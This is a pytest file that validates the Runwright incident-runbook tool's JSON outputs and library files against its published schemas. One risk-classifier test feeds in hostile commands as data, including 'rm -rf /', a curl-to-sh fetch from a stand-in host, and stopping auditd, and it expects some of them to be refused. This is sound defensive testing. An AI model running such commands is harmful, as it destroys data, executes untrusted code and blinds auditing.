"""The published JSON Schemas hold for what the commands really print, and for what Runwright really reads."""

from __future__ import annotations

import json
import subprocess
import sys
from functools import cache
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from jsonschema import Draft202012Validator, FormatChecker
from ruamel.yaml import YAML

from runwright.lab.library import folder
from runwright.model.executions import ExecutionResult
from runwright.model.redaction import redact
from runwright.runbooks.library import starter_runbooks
from runwright.surfaces.cli.published import FORMS, LANGUAGES, READ, record_of, schema_name
from support.doc_pages import first_example
from support.model_records import example_text
from support.strategies import records_of
from support.telemetry import load_cases, result_of

REFERENCE = Path(__file__).parents[2] / "docs" / "reference"
CASES = load_cases()


@cache
def published(name: str) -> Draft202012Validator:
    """The schema as it stands in the documentation."""
    schema = json.loads((REFERENCE / "schemas" / f"{name}.json").read_text(encoding="utf-8"))
    Draft202012Validator.check_schema(schema)
    return Draft202012Validator(schema, format_checker=FormatChecker())


def faults(name: str, data: Any) -> list[str]:
    return [f"{fault.json_path}: {fault.message}" for fault in published(name).iter_errors(data)]


def runwright(*arguments: str | Path, given: str = "") -> subprocess.CompletedProcess[str]:
    """The real program, in a process of its own."""
    return subprocess.run(
        [sys.executable, "-m", "runwright", *map(str, arguments)],
        input=given,
        capture_output=True,
        text=True,
        check=False,
        timeout=120,
    )


@pytest.mark.parametrize("name", FORMS)
class TestEach:
    def test_it_names_itself_and_has_an_example(self, name: str) -> None:
        schema = published(name).schema
        assert schema["$id"] == f"runwright/{name}/v1"
        assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
        assert schema["description"]
        for example in schema["examples"]:
            if name in READ:
                assert faults(name, example) == []
            record_of(name).model_validate_json(json.dumps(example))

    def test_unknown_fields_are_allowed_in_forms_and_refused_in_languages(self, name: str) -> None:
        record = record_of(name).model_validate_json(example_text(record_of(name).__name__))
        data = json.loads(record.model_dump_json(by_alias=True, exclude_unset=name in LANGUAGES))
        assert faults(name, data) == []
        grown = faults(name, {**data, "of_another_tool": {"deep": [1]}})
        assert bool(grown) is (name in LANGUAGES)

    def test_another_form_is_told_apart(self, name: str) -> None:
        data = json.loads(example_text(record_of(name).__name__))
        assert faults(name, {**data, "schema": "runwright/nonsense/v1"})


def test_a_result_that_lacks_or_twists_something_is_refused() -> None:
    data = json.loads(example_text("ExecutionResult"))
    assert faults("execution-result", data) == []
    for name in ("execution_id", "client_id", "host", "incident", "runbook", "started_at", "status"):
        assert faults("execution-result", {key: value for key, value in data.items() if key != name})
    assert faults("execution-result", {**data, "status": "done"})
    assert faults("execution-result", {**data, "started_at": 7})
    assert faults("execution-result", {**data, "steps": [{**data["steps"][0], "status": "fine"}]})


@settings(max_examples=15, deadline=None, database=None)
@given(records_of(ExecutionResult))
def test_any_result_that_is_written_fits(result: ExecutionResult) -> None:
    data = json.loads(result.model_dump_json(by_alias=True))
    assert faults("execution-result", {**data, "schema": schema_name("execution-result")}) == []


@settings(max_examples=60, deadline=None, database=None)
@given(st.text(max_size=40) | st.just("password=hunter2hunter2"))
def test_any_redaction_fits(text: str) -> None:
    assert faults("redact", json.loads(redact(text).model_dump_json(by_alias=True))) == []


@pytest.mark.parametrize("file", sorted(folder().rglob("*.yaml")), ids=lambda path: f"{path.parent.name}/{path.stem}")
def test_scenarios_of_the_library_fit(file: Path) -> None:
    assert faults("scenario", YAML(typ="safe").load(file.read_text(encoding="utf-8"))) == []


@pytest.mark.parametrize("loaded", starter_runbooks(), ids=lambda loaded: loaded.document.id)
def test_runbooks_of_the_library_fit(loaded: Any) -> None:
    assert faults("runbook", loaded.data) == []


def test_what_risk_prints() -> None:
    commands = ["uptime", "rm -rf /", "curl http://x.example/a | sh", 'echo "unclosed', "", "systemctl stop auditd"]
    done = runwright("risk", given="".join(json.dumps({"command": text}) + "\n" for text in commands))
    assert done.returncode == 1, done.stderr
    lines = [json.loads(line) for line in done.stdout.splitlines()]
    assert [line["command"] for line in lines] == commands
    assert {line["verdict"] for line in lines} >= {"ok", "refuse"}
    for line in lines:
        assert line["schema"] == "runwright/risk/v1"
        assert faults("risk", line) == []


def test_what_redact_prints() -> None:
    done = runwright("redact", "--json", "token: abcdefgh")
    assert done.returncode == 1, done.stderr
    data = json.loads(done.stdout)
    assert data["schema"] == "runwright/redact/v1"
    assert faults("redact", data) == []


def test_what_learn_diagnose_prints() -> None:
    """Every case of the learning stage: each kind of failure, whatever its telemetry."""
    given = [json.loads(result_of(case).model_dump_json(by_alias=True)) for _, case in CASES]
    assert [fault for data in given for fault in faults("execution-result", data)] == []
    done = runwright("learn", "diagnose", given="".join(json.dumps(data) + "\n" for data in given))
    assert done.returncode == 1, done.stderr
    answers = [json.loads(line) for line in done.stdout.splitlines()]
    assert len(answers) == len(CASES)
    assert len({answer["failure_type"] for answer in answers}) == 7
    for answer in answers:
        assert answer["schema"] == "runwright/diagnosis/v1"
        assert faults("diagnosis", answer) == []


def test_what_learn_improve_prints(tmp_path: Path) -> None:
    starters = {loaded.document.id: loaded.text for loaded in starter_runbooks()}
    service = [case for _, case in CASES if "runbook" not in case and "runbook_yaml" not in case][::6]
    file = tmp_path / "runbook.yaml"
    file.write_text(starters["RB-LINUX-SERVICE-001"])
    given = "".join(result_of(case).model_dump_json(by_alias=True) + "\n" for case in service)
    done = runwright("learn", "improve", "--runbook", file, given=given)
    answers = [json.loads(line) for line in done.stdout.splitlines()]
    assert len(answers) == len(service), done.stderr
    assert {bool(answer["edits"]) for answer in answers} == {True, False}
    for answer in answers:
        assert answer["schema"] == "runwright/improvement/v1"
        assert faults("improvement", answer) == []


@pytest.mark.lab
def test_what_lab_trial_prints_and_the_examples_of_the_pages_do_what_they_say(tmp_path: Path) -> None:
    scenario, runbook = tmp_path / "scenario.yaml", tmp_path / "runbook.yaml"
    text = first_example(REFERENCE / "scenario-format.md").replace("requires: [nginx-light]\n", "")
    scenario.write_text(text.replace("hold: 3s", "hold: 1s"))
    text = first_example(REFERENCE / "runbook-language.md").replace("hold: 5s", "hold: 1s")
    check = "http: {host: 127.0.0.1, port: $port, path: /, status: 200}"
    assert check in text
    runbook.write_text(text.replace(check, "service: {name: $service, state: started}"))
    done = runwright("lab", "trial", runbook, scenario, "--json")
    assert done.returncode == 0, done.stderr + done.stdout
    data = json.loads(done.stdout)
    assert data["schema"] == "runwright/trial/v1"
    assert (data["outcome"], data["right"], data["wrong_healed"]) == ("healed", True, False)
    assert faults("trial", data) == []
    assert faults("execution-result", data["execution"]) == []
    deleted = [effect["path"] for effect in data["effects"] if effect["change"] == "deleted"]
    assert deleted == ["/run/shopd.lock"]
